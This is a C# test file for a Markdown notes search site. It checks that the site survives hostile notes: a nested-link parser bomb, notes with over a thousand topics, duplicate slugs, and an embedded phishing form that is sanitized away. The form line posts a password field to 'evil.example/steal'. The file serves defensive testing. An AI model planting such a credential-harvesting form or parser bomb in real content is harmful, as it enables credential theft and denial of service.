using System.Diagnostics;
using System.Net;
using System.Text.Json.Nodes;
using NotesSearch.Core.Notes;

namespace NotesSearch.Web.Tests.Site;

/// <summary>
/// Notes saved while the site runs that used to hold it up or break it: Markdown that parses for minutes, more than
/// a thousand topics, a form, and two files claiming one slug. Each test uses its own slugs, so they share one site.
/// </summary>
public sealed class HostileNoteTests(HostileNoteSite site) : IClassFixture<HostileNoteSite>
{
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(15);
    private readonly HttpClient client = site.CreateClient();

    private static async Task<bool> EventuallyAsync(Func<Task<bool>> condition)
    {
        var clock = Stopwatch.StartNew();
        while (clock.Elapsed < Patience)
        {
            if (await condition())
                return true;
            await Task.Delay(100);
        }
        return await condition();
    }

    private async Task<bool> FindsAsync(string word, string slug) =>
        (await client.GetPageAsync("/?q=" + word)).Hrefs("ol.hits h3 a").Contains("/notes/" + slug);

    private async Task<string?> NoteTextAsync(string slug)
    {
        var response = await client.GetAsync("/api/notes/" + slug);
        return response.StatusCode == HttpStatusCode.OK
            ? JsonNode.Parse(await response.Content.ReadAsStringAsync())!["text"]!.GetValue<string>()
            : null;
    }

    private bool Logged(string line) => site.Logged.Contains(line);

    [Fact]
    public async Task AHostileNoteHoldsUpTheEditSavedAfterItNoLongerThanTheBudget()
    {
        // 467 s to parse without a budget.
        site.WriteNote("2026-07-01-hostile.md", "---\ndate: 2026-07-01\n---\n" + string.Concat(Enumerable.Repeat("[](", 160_000)));
        site.WriteNote("2026-07-02-after-hostile.md", "---\ndate: 2026-07-02\n---\nThe word dugongafter is only here.\n");
        var clock = Stopwatch.StartNew();

        Assert.True(await EventuallyAsync(() => FindsAsync("dugongafter", "after-hostile")));
        // The budget, the debounce and a slow machine's margin; minutes without the budget.
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(HostileNoteSite.BudgetSeconds + 10), clock.Elapsed.ToString());
        Assert.True(await EventuallyAsync(() => Task.FromResult(Logged("2026-07-01-hostile.md:1: too complex to render within 2 s"))));
        await client.GetPageAsync("/notes/hostile", HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task NotesSavedWithHostileOnesAreIndexedWithoutWaitingForThem()
    {
        // Three notes that each run out the budget, saved together with an ordinary one: before, each held the
        // batch for its whole budget in turn, so the ordinary note waited for all three.
        for (var i = 0; i < 3; i++)
            site.WriteNote($"2026-07-0{i + 5}-bomb-{i}.md", "---\ndate: 2026-07-05\n---\n" + string.Concat(Enumerable.Repeat("[](", 160_000)));
        site.WriteNote("2026-07-08-beside-bombs.md", "---\ndate: 2026-07-08\n---\nThe word manateebeside is only here.\n");

        Assert.True(await EventuallyAsync(() => FindsAsync("manateebeside", "beside-bombs")));
        Assert.True(await EventuallyAsync(() => Task.FromResult(Logged("2026-07-07-bomb-2.md:1: too complex to render within 2 s"))));
        var lines = site.Logged.ToList();
        var indexed = lines.FindIndex(line => line.Contains("Indexed 2026-07-08-beside-bombs.md", StringComparison.Ordinal));
        var firstBomb = lines.FindIndex(line => line.Contains("bomb-", StringComparison.Ordinal) && line.Contains("too complex", StringComparison.Ordinal));
        // The ordinary note went in while the hostile ones were still being read.
        Assert.InRange(indexed, 0, firstBomb - 1);
    }

    [Fact]
    public async Task ANoteWithOverAThousandTopicsShowsItsPageAndApiWithTheFirstFifty()
    {
        var topics = string.Join(", ", Enumerable.Range(1, 1_030).Select(i => $"crowd {i}"));
        site.WriteNote("2026-07-03-crowded.md", $"---\ndate: 2026-07-03\ntopics: [{topics}]\n---\nA crowded note about fabric.\n");

        Assert.True(await EventuallyAsync(async () => await NoteTextAsync("crowded") is not null));
        var note = JsonNode.Parse(await client.GetStringAsync("/api/notes/crowded"))!;
        var page = await client.GetPageAsync("/notes/crowded");

        Assert.Equal((50, 50), (note["topics"]!.AsArray().Count, page.Texts(".note-header a.tag").Length));
        Assert.Contains("2026-07-03-crowded.md:3: 1030 topics: only the first 50 are kept (980 left out)", site.Logged);
    }

    [Fact]
    public async Task TheApiHtmlOfANoteHasNoFormOrControls()
    {
        site.WriteNote("2026-07-04-phishing.md", """
            ---
            date: 2026-07-04
            ---
            Sign in below.

            <form action="https://evil.example/steal" method="post"><input name="password"><button>Sign in</button></form>
            """);

        Assert.True(await EventuallyAsync(async () => await NoteTextAsync("phishing") is not null));
        var html = JsonNode.Parse(await client.GetStringAsync("/api/notes/phishing"))!["html"]!.GetValue<string>();

        Assert.Matches("^<p id=\"p-[0-9a-f]{6}\">Sign in below.</p>$", html.Trim());
    }

    /// <summary>The file a full rebuild gives <paramref name="slug"/> to: the scanner's rule, over the same folder.</summary>
    private string RebuildWinner(string slug) =>
        new ContentScanner(NoteParserOptions.Default).Scan(site.ContentPath).Single(f => f.Note?.Slug == slug).Path;

    private static string Twin(string slug, string word) => $"---\ndate: 2026-07-05\nslug: {slug}\n---\nThis twin says {word}.\n";

    [Fact]
    public async Task TwinSlugsSavedTogetherGoToTheFirstPathWhicheverIsSavedFirst()
    {
        site.WriteNote("twin-b.md", Twin("twins-together", "okapib"));
        site.WriteNote("twin-a.md", Twin("twins-together", "okapia"));

        Assert.True(await EventuallyAsync(async () => await NoteTextAsync("twins-together") == "This twin says okapia."));
        Assert.True(await EventuallyAsync(() => Task.FromResult(Logged("twin-b.md:1: duplicate slug 'twins-together': also used by twin-a.md"))));
        Assert.Equal("twin-a.md", RebuildWinner("twins-together"));
    }

    [Fact]
    public async Task TheLaterPathSavedSecondLosesAndIsReportedWithBothPaths()
    {
        site.WriteNote("order1-a.md", Twin("twins-first", "tapira"));
        Assert.True(await EventuallyAsync(async () => await NoteTextAsync("twins-first") == "This twin says tapira."));

        site.WriteNote("order1-b.md", Twin("twins-first", "tapirb"));

        Assert.True(await EventuallyAsync(() => Task.FromResult(Logged("order1-b.md:1: duplicate slug 'twins-first': also used by order1-a.md"))));
        Assert.Equal(("This twin says tapira.", "order1-a.md"), (await NoteTextAsync("twins-first"), RebuildWinner("twins-first")));
    }

    [Fact]
    public async Task TheEarlierPathSavedSecondTakesTheSlugAndTheOtherIsReported()
    {
        site.WriteNote("order2-b.md", Twin("twins-second", "quaggab"));
        Assert.True(await EventuallyAsync(async () => await NoteTextAsync("twins-second") == "This twin says quaggab."));

        site.WriteNote("order2-a.md", Twin("twins-second", "quaggaa"));

        Assert.True(await EventuallyAsync(async () => await NoteTextAsync("twins-second") == "This twin says quaggaa."));
        Assert.True(await EventuallyAsync(() => Task.FromResult(Logged("order2-b.md:1: duplicate slug 'twins-second': also used by order2-a.md"))));
        Assert.Equal("order2-a.md", RebuildWinner("twins-second"));
    }

    [Fact]
    public async Task WhenTheWinnerIsDeletedTheOtherTwinTakesTheSlugAsARebuildWould()
    {
        var winner = site.WriteNote("gone-a.md", Twin("twins-gone", "saigaa"));
        site.WriteNote("gone-b.md", Twin("twins-gone", "saigab"));
        Assert.True(await EventuallyAsync(() => Task.FromResult(Logged("gone-b.md:1: duplicate slug 'twins-gone': also used by gone-a.md"))));

        File.Delete(winner);

        Assert.True(await EventuallyAsync(async () => await NoteTextAsync("twins-gone") == "This twin says saigab."));
        Assert.Equal("gone-b.md", RebuildWinner("twins-gone"));
    }
}
